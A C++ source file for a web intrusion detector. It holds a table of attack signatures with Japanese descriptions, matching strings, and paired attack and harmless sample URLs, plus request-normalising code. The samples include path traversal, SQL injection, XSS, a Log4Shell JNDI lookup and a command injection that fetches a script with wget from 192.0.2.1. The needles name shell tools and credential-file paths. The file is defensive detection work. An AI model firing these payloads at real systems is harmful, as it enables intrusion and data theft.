#include "watch/intrusion/signatures.h"

#include "ground/base/text.h"

namespace intrusion {

namespace {

constexpr std::size_t kLongest = 4096;

constexpr Signature kSignatures[] = {
    {"path-traversal",
     "公開フォルダの外のファイルを読もうとする要求",
     {"../", "..\\", "/etc/passwd", "/proc/self/", "boot.ini", ""},
     "/cgi-bin/view?f=..%252f..%252fetc%252fpasswd",
     "/kurashi/a..b/index.html"},
    {"sql-injection",
     "データベースを操作しようとする要求",
     {"union select ", "union all select", "' or '1'='1", "sleep(", "information_schema", "'; drop table"},
     "/list?id=1%27+UNION+SELECT+password+FROM+users--",
     "/search?q=student+union+selection"},
    {"script-injection",
     "スクリプトを埋め込もうとする要求",
     {"<script", "javascript:", "onerror=", "<svg/onload", "", ""},
     "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
     "/search?q=description"},
    {"log4shell",
     "ログ機能の弱点を突く要求",
     {"${jndi:", "${lower:j", "${env:", "${::-j", "", ""},
     "/?x=${jndi:ldap://192.0.2.1/a}",
     "/price?in=$100"},
    {"shellshock",
     "シェルの弱点を突く要求",
     {"() {", "", "", "", "", ""},
     "/?x=()%20%7B%20:;%20%7D;%20id",
     "/f()/index.html"},
    {"command-injection",
     "コマンドを実行しようとする要求",
     {";wget ", ";curl ", "|wget ", "$(curl", "/bin/sh", "cmd.exe"},
     "/ping?host=127.0.0.1;wget%20http://192.0.2.1/x.sh",
     "/kosodate/curling.html"},
    {"cms-probe",
     "他の製品の管理画面を探す要求",
     {"/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin", "/administrator/index.php", "/wp-content/plugins/"},
     "/blog/wp-login.php",
     "/shisei/wp-report.html"},
    {"secret-file",
     "公開してはならないファイルを探す要求",
     {"/.env", "/.git/", "/.svn/", "/.aws/", "/.ssh/", "/.htpasswd"},
     "/app/.env",
     "/kankyo/.well-known/security.txt"},
    {"web-shell",
     "送り込まれた不正プログラムを探す要求",
     {"eval-stdin.php", "/shell.php", "/c99.php", "/r57.php", "/alfa.php", "allow_url_include"},
     "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
     "/bousai/shelter.html"},
    {"device-probe",
     "通信機器の弱点を突く要求",
     {"/boaform/", "/hnap1", "/gponform/", "/goform/", "/setup.cgi?", "/cgi-bin/luci"},
     "/boaform/admin/formLogin",
     "/form/index.html"},
    {"scanner",
     "弱点を探す道具による要求",
     {"sqlmap", "nikto", "nuclei", "masscan", "zgrab", "acunetix"},
     "/?agent=sqlmap/1.7",
     "/map/index.html"},
};

}  // namespace

std::span<const Signature> all_signatures() {
    return kSignatures;
}

std::string normalised(std::string_view text) {
    std::string plain(text.substr(0, kLongest));
    for (int pass = 0; pass < 2; ++pass) {
        std::string decoded;
        decoded.reserve(plain.size());
        for (std::size_t at = 0; at < plain.size(); ++at) {
            const auto hex = [&](std::size_t where) {
                const char c = where < plain.size() ? plain[where] : 'x';
                return c >= '0' && c <= '9'   ? c - '0'
                       : c >= 'a' && c <= 'f' ? c - 'a' + 10
                       : c >= 'A' && c <= 'F' ? c - 'A' + 10
                                              : -1;
            };
            const bool is_escape =
                plain[at] == '%' || (plain[at] == '\\' && at + 1 < plain.size() && plain[at + 1] == 'x');
            const std::size_t skip = plain[at] == '%' ? 1 : 2;  // \x22 is how logs write what is no plain character
            if (is_escape && hex(at + skip) >= 0 && hex(at + skip + 1) >= 0) {
                decoded += static_cast<char>(hex(at + skip) * 16 + hex(at + skip + 1));
                at += skip + 1;
            } else {
                decoded += plain[at] == '+' ? ' ' : plain[at];
            }
        }
        plain = std::move(decoded);
    }
    return base::to_lower(plain);
}

const Signature* find_attack(std::string_view target, std::string_view agent, std::string_view referrer) {
    const std::string all = normalised(target) + '\n' + normalised(agent) + '\n' + normalised(referrer);
    for (const Signature& one : kSignatures)
        for (const std::string_view needle : one.needles)
            if (!needle.empty() && all.find(needle) != std::string::npos) return &one;
    return nullptr;
}

}  // namespace intrusion
